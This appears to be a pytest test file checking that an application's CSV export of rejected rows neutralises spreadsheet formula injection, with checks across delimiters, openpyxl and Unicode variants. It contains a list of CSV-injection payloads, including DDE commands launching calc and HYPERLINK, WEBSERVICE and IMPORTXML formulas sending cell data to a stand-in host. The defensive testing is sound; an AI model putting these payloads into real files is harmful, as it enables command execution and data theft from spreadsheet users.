"""No cell of a table that Doorstep writes is run by a spreadsheet, in any country's dialect, and every one comes back as it was."""

import csv
import io
import unicodedata
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.settings import resource
from app.storage.catalog import load_catalog
from app.storage.catalog.mappings import shipped_mappings
from app.use_cases.imports import ImportPlan, read_orders, write_bad
from app.use_cases.imports.cells import as_typed, defused
from app.use_cases.imports.plan import BadRow
from app.use_cases.imports.table import read_table

# As OWASP and the usual collections have them: calculation, commands by DDE, links that carry data away, functions.
_WHAT = (
    "1+1", "1+1|cmd", "cmd|' /C calc'!A0", 'HYPERLINK("http://h.example/?"&A1,"x")', "SUM(1+1)*cmd|'/C calc'!A1",
    'WEBSERVICE("http://h.example")', 'IMPORTXML("http://h.example","//a")', "A1", "DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip
_SIGNS = "=+-@＝＋－＠"
_BEFORE = ("\t=1", "\r=1", "\n=1", " =1", "\xa0=1", "\u200b=1", "\ufeff=1", "　＝1", "'=1", "''=1", "\x00=1")
_WITHIN = ("x;=1", "x\t=1", "x\n=1", "x\r\n@1", 'x";=1', 'x"\t+1', "x;'=1", "x; =1", "x;;-1", "﹦1", "−1")
PAYLOADS = [sign + what for sign in _SIGNS for what in _WHAT] + list(_BEFORE) + list(_WITHIN)


_UNSEEN = "".join(chr(code) for code in range(0x10000) if unicodedata.category(chr(code)) in ("Cc", "Cf", "Zs", "Zl", "Zp"))


def runs(cell: str) -> bool:
    """Whether a spreadsheet may calculate: the first thing seen is a sign, in whatever width, or a tab or line end stands first."""
    seen = cell.lstrip(_UNSEEN)
    return cell[:1] in ("\t", "\r", "\n") or unicodedata.normalize("NFKC", seen[:1]) in ("=", "+", "-", "@", "−")


def written(tmp_path: Path, payload: str) -> Path:
    """A file of bad rows where every column, every name and every word comes from a hostile table."""
    cells = {f"{payload}{number}": payload for number in range(3)} | {"地址": payload}
    mapping = shipped_mappings()["sample"]
    rows = tuple(BadRow(2, payload, code, payload, cells) for code in ("import.value_unknown", "import.no_place", "import.number_twice"))
    write_bad(tmp_path / "bad.csv", ImportPlan(mapping, (), {}, rows, 0), "en")
    return tmp_path / "bad.csv"


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_runs_whatever_separates_them(tmp_path: Path, delimiter: str) -> None:
    assert len(PAYLOADS) >= 60
    for payload in PAYLOADS:
        text = written(tmp_path, payload).read_text("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
        assert len(cells) >= 4
        assert [cell for cell in cells if runs(cell)] == [], payload


def test_a_spreadsheets_own_reader_finds_no_formula(tmp_path: Path) -> None:
    for payload in PAYLOADS:
        book = openpyxl.Workbook()
        page = book.active
        assert page is not None
        for row in csv.reader(io.StringIO(written(tmp_path, payload).read_text("utf-8-sig"), newline="")):
            page.append([cell.replace("\x00", "") for cell in row])
        assert {cell.data_type for row in page.iter_rows() for cell in row} <= {"s", "n"}, payload


def test_a_cell_that_is_not_defused_would_be_found() -> None:
    assert all(runs(payload) for payload in PAYLOADS if payload not in _WITHIN and not payload.startswith("'"))


@given(st.text(st.sampled_from("=+-@'; \t\r\nx1\"，＝\u200b"), max_size=8))
def test_what_was_defused_is_read_as_it_was_and_runs_nowhere(cell: str) -> None:
    there = defused(cell)
    assert as_typed(there) == cell
    assert not runs(there) and not any(runs(part) for part in there.split(";"))


def test_a_row_that_went_out_to_be_mended_comes_in_as_it_was(tmp_path: Path) -> None:
    head, row = (
        "工单编号,受理时间,渠道,姓名,电话,地址,片区,区域类型,故障,紧急程度,描述,特殊群体,经度,纬度",
        "A1,2026-11-20 07:09,热线,廖秀兰,+8613800000129,,",
    )
    (tmp_path / "t.csv").write_text(f"{head}\n{row}河东片区,城市,水表漏水,紧急,-3 度,,,\n", "utf-8")
    plan = read_orders(tmp_path / "t.csv", shipped_mappings()["sample"], load_catalog(resource("")))
    write_bad(tmp_path / "bad.csv", plan, "zh")
    assert "'+8613800000129" in (tmp_path / "bad.csv").read_text("utf-8-sig")
    (line,) = read_table(tmp_path / "bad.csv").lines
    assert (line.cells["电话"], line.cells["描述"]) == ("+8613800000129", "-3 度")
